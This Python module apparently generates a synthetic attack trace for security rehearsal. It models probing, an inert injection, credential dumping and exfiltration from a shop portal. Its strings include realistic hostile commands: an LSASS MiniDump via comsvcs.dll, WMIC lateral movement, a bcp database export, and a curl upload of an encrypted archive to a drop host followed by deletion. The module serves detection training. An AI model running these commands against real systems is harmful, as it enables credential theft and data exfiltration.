"""The attack: a hole in the portal's web framework, a shell, passwords, the order database, data leaving.

What is written here is a trace for rehearsing, made up for it: the expression in the request is no working one,
and the encoded command prints a word.
"""

from base64 import b64encode
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta

from muster.rehearse.shop.cast import ORDERS, Cast, Machine
from muster.rehearse.shop.draws import Draws
from muster.rehearse.shop.event import Event, Step, Telemetry
from muster.rehearse.shop.sign_ins import ADMINISTRATOR, CONSOLE, signed_in
from muster.rehearse.shop.sysmon import (
    DATABASE_ACCOUNT,
    PORTAL_ACCOUNT,
    SERVICE,
    SYSTEM,
    SYSTEM32,
    Process,
    connected,
    deleted,
    opened,
    process,
    resident,
    started,
    tomcat,
    wrote,
)
from muster.rehearse.shop.weblog import Answer, Visitor, line

PROPERTIES = "C:\\apps\\tomcat\\webapps\\portal\\WEB-INF\\classes\\database.properties"
EXPORT = "C:\\ProgramData\\export.csv"
_PROBES = (
    "/.env",
    "/.git/config",
    "/WEB-INF/web.xml",
    "/portal.zip",
    "/backup.sql",
    "/struts/webconsole.html",
)
_EXPRESSION = "%25%7B(%23rehearsal%3D%40ognl.OgnlContext%40DEFAULT_MEMBER_ACCESS).(%23word%3D'calm')%7D"
_TRACE = f"{SYSTEM32}\\ntdll.dll+9d4c4|{SYSTEM32}\\KERNELBASE.dll+2e2ae|{SYSTEM32}\\comsvcs.dll+24b3a"
_FULL_ACCESS = "0x1fffff"

# How many seconds pass at most before it, and what is logged once the time is known.
_Act = tuple[int, Callable[[datetime], Telemetry]]


class _Hand:
    """The attacker's hand: one night's draws, and the shells that are open."""

    def __init__(self, one: Cast) -> None:
        self.one = one
        self.draws = Draws(one.seed, "attack")
        self.server = tomcat(one.portal)
        self.provider = resident(
            ORDERS, "wbem\\WmiPrvSE.exe", f"{SYSTEM32}\\wbem\\wmiprvse.exe -secured", SERVICE
        )
        self.visitor = Visitor(one.attacker, one.agent)

    def new(self, machine: Machine, image: str, command: str, user: str) -> Process:
        """A program of the system folder, with its command line."""
        return process(self.draws, machine, f"{SYSTEM32}\\{image}", command, user)

    def port(self) -> int:
        """A source port."""
        return self.draws.between(49_200, 65_000)


def attack(one: Cast, start: datetime, length: timedelta) -> Iterator[Event]:
    """The events of the attack in time order; all lie within the length."""
    hand = _Hand(one)
    at = start + length * hand.draws.between(22, 27) / 100
    for step, acts in _STEPS:
        for pause, log in acts(hand):
            at += timedelta(milliseconds=hand.draws.between(pause * 300, pause * 1000))
            yield Event(at, step, log(at))
        at += length * hand.draws.between(20, 50) / 1000


def _starts(new: Process, parent: Process) -> Callable[[datetime], Telemetry]:
    return lambda at: started(at, new, parent)


def _writes(who: Process, file: str) -> Callable[[datetime], Telemetry]:
    return lambda at: wrote(at, who, file)


def _connects(hand: _Hand, who: Process, to: tuple[str, int]) -> Callable[[datetime], Telemetry]:
    port = hand.port()
    return lambda at: connected(at, who, to[0], to[1], "-", port)


def _asks(hand: _Hand, request: str, status: int) -> Callable[[datetime], Telemetry]:
    answer = Answer(status, hand.draws.between(200, 1900), hand.draws.between(3, 900))
    return lambda at: line(at, hand.one.portal, hand.visitor, request, answer)


def _probe(hand: _Hand) -> Iterator[_Act]:
    yield 1, _asks(hand, "GET /", 302)
    for path in _PROBES:
        yield 4, _asks(hand, f"GET {path}", 404)
    yield 6, _asks(hand, f"GET {hand.one.page}", 200)


def _exploit(hand: _Hand) -> Iterator[_Act]:
    for status in (400, 500, 200):
        yield 25, _asks(hand, f"POST {hand.one.page}?redirect:{_EXPRESSION}", status)


def _shell(hand: _Hand) -> Iterator[_Act]:
    portal = hand.one.portal
    for command in ("whoami", "ipconfig /all", "net localgroup administrators"):
        shell = hand.new(portal, "cmd.exe", f'cmd.exe /c "{command}"', PORTAL_ACCOUNT)
        yield 20, _starts(shell, hand.server)
        name = command.partition(" ")[0]
        yield 1, _starts(hand.new(portal, f"{name}.exe", command, PORTAL_ACCOUNT), shell)
    yield 15, _asks(hand, f"POST {hand.one.page}?redirect:{_EXPRESSION}", 200)
    code = b64encode(f"Write-Output 'rehearsal {hand.one.seed}'".encode("utf-16-le")).decode("ascii")
    shell = hand.new(portal, "cmd.exe", f'cmd.exe /c "powershell -nop -w hidden -enc {code}"', PORTAL_ACCOUNT)
    image = "WindowsPowerShell\\v1.0\\powershell.exe"
    power = hand.new(portal, image, f"powershell -nop -w hidden -enc {code}", PORTAL_ACCOUNT)
    yield 20, _starts(shell, hand.server)
    yield 1, _starts(power, shell)
    yield 2, _connects(hand, power, (hand.one.attacker, 443))


def _credentials(hand: _Hand) -> Iterator[_Act]:
    portal, dump = hand.one.portal, hand.one.dump
    shell = hand.new(portal, "cmd.exe", f'cmd.exe /c "type {PROPERTIES}"', PORTAL_ACCOUNT)
    yield 20, _starts(shell, hand.server)
    lsass = resident(portal, "lsass.exe")
    command = f"rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {lsass.pid} {dump} full"
    shell = hand.new(portal, "cmd.exe", f'cmd.exe /c "{command}"', SYSTEM)
    dumper = hand.new(portal, "rundll32.exe", command, SYSTEM)
    yield 40, _starts(shell, hand.server)
    yield 1, _starts(dumper, shell)
    yield 1, lambda at: opened(at, dumper, lsass, _FULL_ACCESS, _TRACE)
    yield 2, _writes(dumper, dump)


def _sign_in(hand: _Hand) -> Iterator[_Act]:
    """With a password that lay in the dump: at the identity provider, from the attacker's own address."""
    yield 90, lambda at: signed_in(at, ADMINISTRATOR, CONSOLE, hand.one.attacker)


def _move(hand: _Hand) -> Iterator[_Act]:
    command = f'wmic /node:{ORDERS.name} process call create "cmd.exe /c whoami > C:\\ProgramData\\w.txt"'
    shell = hand.new(hand.one.portal, "cmd.exe", f"cmd.exe /c {command}", PORTAL_ACCOUNT)
    wmic = hand.new(hand.one.portal, "wbem\\WMIC.exe", command, PORTAL_ACCOUNT)
    yield 30, _starts(shell, hand.server)
    yield 1, _starts(wmic, shell)
    yield 1, _connects(hand, wmic, (ORDERS.address, 135))
    remote = hand.new(ORDERS, "cmd.exe", "cmd.exe /c whoami > C:\\ProgramData\\w.txt", DATABASE_ACCOUNT)
    yield 2, _starts(remote, hand.provider)
    yield 1, _writes(remote, "C:\\ProgramData\\w.txt")


def _collect(hand: _Hand) -> Iterator[_Act]:
    one = hand.one
    words = ("bcp.exe", '"SELECT *', f'FROM shop.{one.table}"', "queryout", EXPORT, "-c -T -S localhost")
    query = " ".join(words)
    shell = hand.new(ORDERS, "cmd.exe", f"cmd.exe /c {query}", DATABASE_ACCOUNT)
    copier = hand.new(ORDERS, "bcp.exe", query, DATABASE_ACCOUNT)
    yield 40, _starts(shell, hand.provider)
    yield 1, _starts(copier, shell)
    yield 3, _writes(copier, EXPORT)
    packer = "rar.exe" if one.archive.endswith(".rar") else "7z.exe"
    secret = f"-hp{one.password}" if packer == "rar.exe" else f"-p{one.password} -mhe=on"
    command = f"{packer} a {secret} {one.archive} {EXPORT}"
    shell = hand.new(ORDERS, "cmd.exe", f"cmd.exe /c {command}", DATABASE_ACCOUNT)
    archiver = process(hand.draws, ORDERS, f"C:\\ProgramData\\{packer}", command, DATABASE_ACCOUNT)
    yield 60, _starts(shell, hand.provider)
    yield 1, _starts(archiver, shell)
    yield 20, _writes(archiver, one.archive)


def _leave(hand: _Hand) -> Iterator[_Act]:
    one = hand.one
    command = f"curl.exe -s -k -T {one.archive} https://{one.drop}/in/{one.archive[-12:]}"
    shell = hand.new(ORDERS, "cmd.exe", f"cmd.exe /c {command}", DATABASE_ACCOUNT)
    curl = hand.new(ORDERS, "curl.exe", command, DATABASE_ACCOUNT)
    yield 40, _starts(shell, hand.provider)
    yield 1, _starts(curl, shell)
    yield 1, _connects(hand, curl, (one.drop, 443))
    shell = hand.new(ORDERS, "cmd.exe", f"cmd.exe /c del {EXPORT} {one.archive}", DATABASE_ACCOUNT)
    yield 60, _starts(shell, hand.provider)
    yield 1, lambda at: deleted(at, shell, EXPORT)
    yield 1, lambda at: deleted(at, shell, one.archive)


_STEPS: tuple[tuple[Step, Callable[[_Hand], Iterator[_Act]]], ...] = (
    (Step.PROBE, _probe),
    (Step.EXPLOIT, _exploit),
    (Step.SHELL, _shell),
    (Step.CREDENTIALS, _credentials),
    (Step.SIGN_IN, _sign_in),
    (Step.MOVE, _move),
    (Step.COLLECT, _collect),
    (Step.LEAVE, _leave),
)
